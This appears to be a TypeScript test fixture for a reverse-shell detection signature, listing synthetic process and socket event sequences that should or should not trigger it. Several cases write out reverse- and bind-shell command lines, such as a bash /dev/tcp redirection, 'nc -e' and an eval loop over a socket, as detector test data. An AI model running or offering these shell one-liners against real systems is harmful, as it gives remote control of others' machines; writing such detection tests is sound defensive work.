import type { Samples, Sequences } from "../engine/signature.ts";

const attacker = { peer: "127.0.0.1:4444", local: "127.0.0.1:50000" } as const;
const attacker6 = { peer: "[2001:db8::1]:4444", local: "[2001:db8::2]:50000" } as const;
const client = { peer: "127.0.0.1:50001", local: "127.0.0.1:7000" } as const;
const tcp = { family: "inet", type: "stream", protocol: 6 } as const;

/** Processes by key: 1 is the job's first, 2 its child, and so on; the pid is 100 more. */
const started = (process_key: number, ...args: readonly [string, ...string[]]): Samples => ({
  event: "process_exec",
  process_key,
  parent_key: process_key - 1,
  pid: 100 + process_key,
  path: args[0],
  args: args.map((arg, i) => (i === 0 ? arg.slice(arg.lastIndexOf("/") + 1) : arg)),
});

const forked = (child_key: number): Samples => ({
  event: "process_fork",
  process_key: child_key - 1,
  parent_key: child_key - 1,
  child_key,
  child_pid: 100 + child_key,
});

interface Addresses {
  readonly peer: string;
  readonly local: string;
}

const connects = (process_key: number, inode: number, at: Addresses, descriptor = 3): Samples => ({
  event: "socket_connect",
  process_key,
  inode,
  descriptor,
  ...tcp,
  ...at,
});

const accepts = (process_key: number, inode: number, descriptor = 4): Samples => ({
  event: "socket_accept",
  process_key,
  inode,
  descriptor,
  ...tcp,
  ...client,
});

const puts = (process_key: number, inode: number, descriptor: number, at: Addresses): Samples => ({
  event: "descriptor_duplicate",
  process_key,
  inode,
  from_descriptor: 3,
  descriptor,
  kind: at.peer.startsWith("[") ? "inet6_socket" : "inet_socket",
  ...at,
});

const unconnected: Addresses = { peer: "", local: "" };

/** A program that finds a socket on all three. */
const startedOn = (sample: Samples, inode: number, at: Addresses): Samples => ({
  ...(sample as Samples & { readonly event: "process_exec" }),
  stdin_kind: "inet_socket",
  stdin_inode: inode,
  stdin_peer: at.peer,
  stdin_local: at.local,
  stdout_kind: "inet_socket",
  stdout_inode: inode,
  stdout_peer: at.peer,
  stdout_local: at.local,
  stderr_kind: "inet_socket",
  stderr_inode: inode,
  stderr_peer: at.peer,
  stderr_local: at.local,
});

/** A program that finds a socket on standard input alone. */
const startedFrom = (sample: Samples, inode: number, at: Addresses): Samples => ({
  ...(sample as Samples & { readonly event: "process_exec" }),
  stdin_kind: "inet_socket",
  stdin_inode: inode,
  stdin_peer: at.peer,
  stdin_local: at.local,
});

const shell = started(1, "/usr/bin/dash", "build.sh");
const python = started(2, "/usr/bin/python3.11", "reporter.py");
const bash = started(2, "/usr/bin/bash", "./wait-for-it.sh");
const server = started(2, "/usr/bin/python3.11", "server.py");

export const fires: Sequences = [
  // The article: connect, then dup2 onto standard input.
  [shell, python, connects(2, 77, attacker), puts(2, 77, 0, attacker)],
  // Standard error of an interpreter alone, over IPv6.
  [shell, python, connects(2, 77, attacker6), puts(2, 77, 2, attacker6)],
  // First dup2, then connect without waiting.
  [
    shell,
    python,
    puts(2, 77, 0, unconnected),
    { event: "socket_connect", process_key: 2, inode: 77, descriptor: 3, error: 115, ...attacker },
  ],
  // close(0); socket() gives 0; connect.
  [shell, python, connects(2, 77, attacker, 0)],
  // A datagram socket.
  [
    shell,
    python,
    {
      event: "socket_connect",
      process_key: 2,
      inode: 77,
      descriptor: 3,
      family: "inet",
      type: "datagram",
      ...attacker,
    },
    puts(2, 77, 0, attacker),
  ],
  // Any program with the connection on standard input.
  [shell, started(2, "/usr/bin/nc.traditional", "-e", "x"), puts(2, 77, 0, attacker)],
  // A connection of which nothing is known: received, or made where no event was.
  [shell, startedOn(started(2, "/usr/bin/bash", "-i"), 77, attacker)],
  // bash -i >& /dev/tcp/127.0.0.1/4444 0>&1, before its exec.
  [
    shell,
    started(2, "/usr/bin/bash", "-c", "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1"),
    connects(2, 77, attacker),
    puts(2, 77, 1, attacker),
    puts(2, 77, 2, attacker),
    puts(2, 77, 0, attacker),
  ],
  // A shell of commands from standard input puts the connection there.
  [shell, started(2, "/usr/bin/bash", "-s"), puts(2, 77, 0, attacker)],
  // cat <&5 | while read line; do $line 2>&5 >&5; done
  [
    shell,
    started(2, "/usr/bin/bash", "x.sh"),
    connects(2, 77, attacker, 5),
    startedFrom(started(3, "/usr/bin/cat"), 77, attacker),
    { ...forked(4), process_key: 2, parent_key: 2 } as Samples,
    puts(4, 77, 2, attacker),
  ],
  // The parent connects and forks, and the child runs a shell.
  [
    shell,
    python,
    connects(2, 77, attacker),
    forked(3),
    startedOn(started(3, "/usr/bin/busybox", "sh"), 77, attacker),
  ],
  // A bind shell: accept, dup2, exec.
  [
    shell,
    server,
    accepts(2, 78),
    puts(2, 78, 0, client),
    puts(2, 78, 1, client),
    startedOn(started(2, "/usr/bin/dash", "-i"), 78, client),
  ],
  // A bind shell whose command line evaluates what it reads.
  [
    shell,
    server,
    accepts(2, 78),
    startedOn(
      started(3, "/usr/bin/bash", "-c", 'while read -r line; do eval "$line"; done'),
      78,
      client,
    ),
  ],
  // An interpreter that takes its program from the peer.
  [shell, server, accepts(2, 78), startedOn(started(3, "/usr/bin/python3.11"), 78, client)],
];

export const silent: Sequences = [
  // A client that keeps its connection where it is.
  [shell, python, connects(2, 77, attacker)],
  // A connect that fails.
  [
    shell,
    python,
    { event: "socket_connect", process_key: 2, inode: 77, descriptor: 0, error: 111, ...attacker },
  ],
  // The stdio that the job was given.
  [startedOn(started(1, "/usr/bin/dash", "-i"), 70, client)],
  [
    startedOn(started(1, "/usr/bin/dash", "-i"), 70, client),
    startedOn(started(2, "/usr/bin/bash"), 70, client),
  ],
  // An inetd-style server and its handlers: a program, a script, a command line, git.
  [shell, server, accepts(2, 78), puts(2, 78, 0, client)],
  [shell, server, accepts(2, 78), startedOn(started(3, "/usr/bin/cat"), 78, client)],
  [shell, server, accepts(2, 78), startedOn(started(3, "/bin/sh", "handler.sh"), 78, client)],
  [
    shell,
    server,
    accepts(2, 78),
    startedOn(started(3, "/bin/sh", "-c", 'read -r line; echo "got $line"'), 78, client),
  ],
  [
    shell,
    server,
    accepts(2, 78),
    puts(2, 78, 0, client),
    puts(2, 78, 1, client),
    startedOn(started(2, "/usr/bin/git", "upload-pack", "."), 78, client),
  ],
  // Node's child_process, whose pipes are unix sockets.
  [
    shell,
    started(2, "/usr/bin/node", "build.js"),
    {
      event: "process_exec",
      process_key: 3,
      parent_key: 2,
      path: "/usr/bin/dash",
      args: ["/bin/sh"],
      stdin_kind: "unix_socket",
      stdin_inode: 79,
      stdout_kind: "unix_socket",
      stdout_inode: 80,
    },
  ],
  // A build tool that gives its helper a unix socket for stdio.
  [
    shell,
    {
      event: "descriptor_duplicate",
      process_key: 1,
      inode: 81,
      descriptor: 0,
      kind: "unix_socket",
    },
  ],
  // Is the port open? echo >/dev/tcp/127.0.0.1/5432, and then </dev/tcp/127.0.0.1/5432.
  [shell, bash, connects(2, 77, attacker), puts(2, 77, 1, attacker)],
  [shell, bash, connects(2, 77, attacker), puts(2, 77, 0, attacker)],
  // A question and its answer: printf … >&3; cat <&3.
  [
    shell,
    bash,
    connects(2, 77, attacker),
    puts(2, 77, 1, attacker),
    { event: "descriptor_duplicate", process_key: 2, inode: 90, descriptor: 1, kind: "pipe" },
    forked(3),
    puts(3, 77, 0, attacker),
    startedFrom(started(3, "/usr/bin/cat"), 77, attacker),
  ],
  // A server that was started with standard input closed asks for a name, and connects.
  [
    shell,
    started(2, "/usr/local/bin/app"),
    { event: "socket_connect", process_key: 2, inode: 77, descriptor: 0, ...attacker },
  ],
  // A listening socket on standard input, as FastCGI has it.
  [shell, startedOn(started(2, "/usr/bin/php-cgi8.2"), 82, { peer: "", local: "127.0.0.1:9000" })],
];
